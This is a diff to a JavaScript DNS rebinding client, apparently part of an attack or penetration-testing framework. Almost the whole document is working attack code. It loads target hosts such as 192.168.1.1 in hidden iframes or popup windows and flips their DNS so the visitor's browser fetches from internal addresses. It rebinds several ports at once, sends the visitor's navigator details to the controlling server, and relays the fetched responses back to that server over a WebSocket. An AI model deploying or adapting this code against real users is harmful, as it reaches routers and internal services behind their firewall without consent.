@@ -9,31 +9,74 @@ class DNSRebind {
 	constructor(base) {
 		// Default to the host provided by currentScript if none provided
 		base = base || DNSRebind.base
-		// Hosts is a mapping from host => subdomain
+		// Hosts is a mapping from host:port => channel
 		this._requestPromises = {};
 		this._hosts = {};
 		this._hostsPromises = {};
+		this._navigations = {};
+		// How rebinds are delivered, "frame" (hidden iframes) or "navigate" (a top-level window, for browsers that partition or block third-party frames)
+		// Navigation windows are popups, fetch from a click handler so they aren't blocked
+		this.mode = "frame";
 		this._ws = new Promise((resolve, reject) => {
-			let ws = new WebSocket(`ws://${base}/v1.websocket`);
+			// Use a secure socket when we were loaded over HTTPS so the page doesn't block it as mixed content
+			let scheme = DNSRebind.secure ? "wss" : "ws";
+			// The subprotocol negotiates the version of the messages (see PROTOCOL.md)
+			let ws = new WebSocket(`${scheme}://${base}/v1.websocket`, DNSRebind.protocol);
 			ws.onopen = () => {
 				resolve(ws);
 			};
 			ws.onerror = (e) => reject(e);
+			// Nothing pending will be answered any more, the reason says why if the server refused us
+			ws.onclose = (e) => {
+				let err = new Error(`WebSocket closed (${e.code}${e.reason ? `: ${e.reason}` : ""})`);
+				[this._hostsPromises, this._requestPromises, this._navigations].forEach((promises) => {
+					Object.keys(promises).forEach((id) => {
+						promises[id].reject(err);
+						delete promises[id];
+					});
+				});
+			};
 			ws.onmessage = (e) => {
-				let results = JSON.parse(e.data);
-				this._hostsPromises[results.requestId].resolve(results);
+				let msg = JSON.parse(e.data);
+				switch (msg.type) {
+				case "response":
+					if (msg.action == "host") {
+						this._settle(this._hostsPromises, msg.requestId, "resolve", msg);
+					} else if (msg.action == "fetch") {
+						// Answered by the page of a navigation rebind
+						this._fetched(msg);
+					}
+					break;
+				case "error":
+					// Whichever request it was for fails
+					let err = new Error(msg.error);
+					this._settle(this._hostsPromises, msg.requestId, "reject", err);
+					this._settle(this._requestPromises, msg.requestId, "reject", err);
+					break;
+				case "event":
+					// The server is going away, running rebinds are torn down once the timeout (in seconds) passes
+					if (msg.action == "shutdown") {
+						if (this.onshutdown) {
+							this.onshutdown(msg.timeout);
+						}
+					} else {
+						// Relayed from the page of a navigation rebind
+						this._navigated(msg);
+					}
+					break;
+				}
 			}
 			return ws;
 		});
 	}
 
 	// _createFrame will create an iframe to a given URL
-	_createFrame(offer) {
+	_createFrame(id, url) {
 		// Create the invisible frame
 		let frame = document.createElement("iframe");
 		frame.style.display = 'none';
-		frame.src = offer.url;
-		frame.id = offer.id;
+		frame.src = url;
+		frame.id = id;
 		// Return a promise to add the frame and communicate with it
 		return new Promise((resolve, reject) => {
 			// Once the frame loads try to send a hello
@@ -44,6 +87,69 @@ class DNSRebind {
 		});
 	}
 
+	// _settle resolves or rejects a pending promise, if there's one for the ID
+	_settle(promises, id, outcome, value) {
+		if (promises[id]) {
+			promises[id][outcome](value);
+			delete promises[id];
+		}
+	}
+
+	// _navigate opens a top-level window for a navigation offer, resolving with a channel once the page has rebound
+	// The page can't reach us directly so everything goes through the server, over the WebSocket
+	_navigate(offer, port) {
+		return this._ws.then((ws) => new Promise((resolve, reject) => {
+			// The page connects back to the socket URL given in the fragment
+			let win = window.open(`${offer.urls ? offer.urls[port] : offer.url}#${encodeURIComponent(ws.url)}`, offer.id);
+			if (!win) {
+				reject(`The window for navigation rebind "${offer.id}" was blocked`);
+				return;
+			}
+			// Mimic a MessageChannel so fetch doesn't care about the mode
+			let channel = {
+				port1: {
+					postMessage: (msg) => {
+						// The fetch's ID doubles as the request's, the page's answer (or an error) comes back with it
+						ws.send(JSON.stringify({
+							type: "request",
+							requestId: msg.id,
+							action: "fetch",
+							rebindId: offer.id,
+							input: msg.input,
+							init: msg.init,
+						}));
+					}
+				}
+			};
+			this._navigations[offer.id] = {win, resolve: () => resolve(channel), reject};
+		}));
+	}
+
+	// _navigated handles the events relayed from the pages of navigation rebinds
+	_navigated(msg) {
+		if (msg.action == "ready") {
+			this._settle(this._navigations, msg.rebindId, "resolve");
+		} else if (msg.action == "detached") {
+			// Fails the rebind if it hadn't finished yet
+			this._settle(this._navigations, msg.rebindId, "reject", new Error(`The page of navigation rebind "${msg.rebindId}" went away`));
+		}
+	}
+
+	// _fetched handles the answer of the page of a navigation rebind to a fetch
+	_fetched(msg) {
+		if (!msg.resolve) {
+			this._settle(this._requestPromises, msg.requestId, "reject", new Error(msg.reject));
+			return;
+		}
+		let body = Uint8Array.from(atob(msg.resolve.body), (c) => c.charCodeAt(0));
+		// Null body statuses can't have a body at all
+		this._settle(this._requestPromises, msg.requestId, "resolve", new Response([101, 204, 205, 304].includes(msg.resolve.status) ? null : body, {
+			status: msg.resolve.status,
+			statusText: msg.resolve.statusText,
+			headers: msg.resolve.headers
+		}));
+	}
+
 	// createMessageChannel returns a promise to create a message channel given a frame
 	_createMessageChannel(frame) {
 		return new Promise((resolve, reject) => {
@@ -69,76 +175,125 @@ class DNSRebind {
 		});
 	}
 
-	// _getChannel will try to open a channel via multiple urls
-	_getChannel(offers) {
-		// Create an array of frames for each URL
-		let framePromises = offers.map((offer) => this._createFrame(offer));
-		// Create an array of message channels for each frame
-		let messageChannelPromises = framePromises.map((framePromise) => {
-			// Wait for a rebind to occur
-			return framePromise.then((frame) => this._createMessageChannel(frame));
+	// _getChannels will try to open a channel for each port via multiple offers
+	// The first offer to rebind on the main port wins, its frames on the other ports flipped with the same DNS answers
+	_getChannels(offers, port) {
+		// Create a frame and a message channel for each port of each offer
+		let attempts = offers.map((offer) => {
+			let urls = offer.urls || {[port]: offer.url};
+			let attempt = {framePromises: [], channels: {}};
+			// Navigation offers only ever have the one port
+			if (offer.mode == "navigate") {
+				attempt.channels[port] = this._navigate(offer, port);
+				attempt.navigation = offer.id;
+				return attempt;
+			}
+			Object.keys(urls).forEach((p) => {
+				let framePromise = this._createFrame(`${offer.id}:${p}`, urls[p]);
+				attempt.framePromises.push(framePromise);
+				// Wait for a rebind to occur
+				attempt.channels[p] = framePromise.then((frame) => this._createMessageChannel(frame)).then((channel) => this._listen(channel));
+			});
+			return attempt;
 		});
-		// Create an array of promises to create a channel
 		// Invert the resolve/reject so we can use Promise.all to get the first success
-		return Promise.all(messageChannelPromises.map((p) => {
-			return p.then(val => Promise.reject(val), err => Promise.resolve(err));
+		return Promise.all(attempts.map((attempt) => {
+			return attempt.channels[port].then(() => Promise.reject(attempt), err => Promise.resolve(err));
 		// Invert back after the Promise.all resolves
-		})).then(errs => Promise.reject(errs), vals => Promise.resolve(vals)).then((channel) => {
-			// Cleanup any other frames that resolve
-			framePromises.forEach((framePromise) => {
-				framePromise.then((frame) => {
-					if (frame != channel.frame) {
-						frame.parentNode.removeChild(frame);
+		})).then(errs => Promise.reject(errs), winner => Promise.resolve(winner)).then((winner) => {
+			// Cleanup the frames (and windows) of every other offer
+			attempts.forEach((attempt) => {
+				if (attempt != winner) {
+					if (attempt.navigation && this._navigations[attempt.navigation]) {
+						this._navigations[attempt.navigation].win.close();
 					}
-				});
+					attempt.framePromises.forEach((framePromise) => {
+						framePromise.then((frame) => {
+							if (frame.parentNode) {
+								frame.parentNode.removeChild(frame);
+							}
+						});
+					});
+				}
 			});
-			return channel;
-		}).then((channel) => {
-			channel.channel.port1.onmessage = (e) => {
-				// If the page is letting us know that it cached, save in localStorage
-				/*if (e.data == "CACHED") {
-					if (!localStorage.cached) {
-						localStorage.cached = "";
-					}
-					localStorage.cached += "," + new URL(channel.frame.src).host
-					return;
-				}*/
-				Object.keys(e.data).forEach((id) => {
-					let resp = e.data[id];
-					if (resp.resolve) {
-						this._requestPromises[id].resolve(new Response(resp.resolve.blob));
-					} else {
-						this._requestPromises[id].reject(resp.resolve);
-					}
-				});
-			}
-			return channel.channel;
+			return winner.channels;
 		});
 	}
 
-	// _getHost get a channel for a given host, or creates one if it doesn't already exist
-	_getHost(host) {
-		if (!this._hosts[host]) {
-			this._hosts[host] = this._ws.then((ws) => {
-				// Clone window.navigator and serialize it, server can use it to make decisions about which rebinds to try
-				let navigator = {};
-				for (var i in window.navigator) {
-					navigator[i] = window.navigator[i];
+	// _listen resolves fetches answered over a frame's channel
+	_listen(channel) {
+		channel.channel.port1.onmessage = (e) => {
+			// If the page is letting us know that it cached, save in localStorage
+			/*if (e.data == "CACHED") {
+				if (!localStorage.cached) {
+					localStorage.cached = "";
+				}
+				localStorage.cached += "," + new URL(channel.frame.src).host
+				return;
+			}*/
+			Object.keys(e.data).forEach((id) => {
+				let resp = e.data[id];
+				if (resp.resolve) {
+					this._settle(this._requestPromises, id, "resolve", new Response(resp.resolve.blob));
+				} else {
+					this._settle(this._requestPromises, id, "reject", resp.reject);
 				}
-				let requestId = this._UUID();
-				ws.send(JSON.stringify({
-					requestId: requestId,
-					action: "host",
-					navigator: navigator,
-					host: host,
-//					cached: ((localStorage || {}).cached || "").split(",").splice(1),
-				}));
-				return new Promise((resolve, reject) => {
-					this._hostsPromises[requestId] = {resolve, reject};
-				}).then((resp) => this._getChannel(resp.offers));
 			});
 		}
-		return this._hosts[host];
+		return channel.channel;
+	}
+
+	// _requestHost asks for rebinds of the ports of a hostname, they all share the same DNS flip
+	_requestHost(hostname, ports) {
+		let channels = this._ws.then((ws) => {
+			// Clone window.navigator and serialize it, server can use it to make decisions about which rebinds to try
+			let navigator = {};
+			for (var i in window.navigator) {
+				navigator[i] = window.navigator[i];
+			}
+			let requestId = this._UUID();
+			ws.send(JSON.stringify({
+				type: "request",
+				requestId: requestId,
+				action: "host",
+				navigator: navigator,
+				mode: this.mode,
+				host: `${hostname}:${ports[0]}`,
+				ports: ports.slice(1),
+//				cached: ((localStorage || {}).cached || "").split(",").splice(1),
+			}));
+			return new Promise((resolve, reject) => {
+				this._hostsPromises[requestId] = {resolve, reject};
+			}).then((resp) => this._getChannels(resp.offers, ports[0]));
+		});
+		ports.forEach((port) => {
+			this._hosts[`${hostname}:${port}`] = channels.then((c) => c[port]);
+		});
+		// Forget a failed request (ex. an error from the server) so later fetches ask again
+		channels.catch(() => {
+			ports.forEach((port) => {
+				delete this._hosts[`${hostname}:${port}`];
+			});
+		});
+	}
+
+	// ports rebinds several ports of a hostname at once (ex. r.ports("192.168.1.1", [80, 8080])), fetches to any of them then share the rebind
+	// Resolves once the first port is ready, call it before fetching from any of the ports
+	ports(hostname, ports) {
+		ports = ports.map(String);
+		let missing = ports.filter((port) => !this._hosts[`${hostname}:${port}`]);
+		if (missing.length > 0) {
+			this._requestHost(hostname, missing);
+		}
+		return this._hosts[`${hostname}:${ports[0]}`].then(() => undefined);
+	}
+
+	// _getHost get a channel for a given host, or creates one if it doesn't already exist
+	_getHost(hostname, port) {
+		if (!this._hosts[`${hostname}:${port}`]) {
+			this._requestHost(hostname, [port]);
+		}
+		return this._hosts[`${hostname}:${port}`];
 	}
 
 	// _UUID generates a UUID
@@ -156,7 +311,9 @@ class DNSRebind {
 		let req = new Request(input, init);
 		let url = new URL(req.url);
 		let urlS = url.toString(); // If we cast to a string, much easier to operate on
-		return this._getHost(url.host).then((channel) => {
+		// Default ports aren't part of url.host
+		let port = url.port || (url.protocol == "https:" ? "443" : "80");
+		return this._getHost(url.hostname, port).then((channel) => {
 			let id = this._UUID();
 			return new Promise((resolve, reject) => {
 				this._requestPromises[id] = {resolve, reject}
@@ -181,5 +338,7 @@ class DNSRebind {
 
 }
 
-// Set the host based on the domain this script was loaded from
-DNSRebind.base = new URL(document.currentScript.src).host
+// Set the host based on the domain this script was served from (filled in by the server)
+DNSRebind.base = "{{js .Host}}"
+DNSRebind.secure = new URL(document.currentScript.src).protocol == "https:"
+DNSRebind.protocol = "{{js .Protocol}}"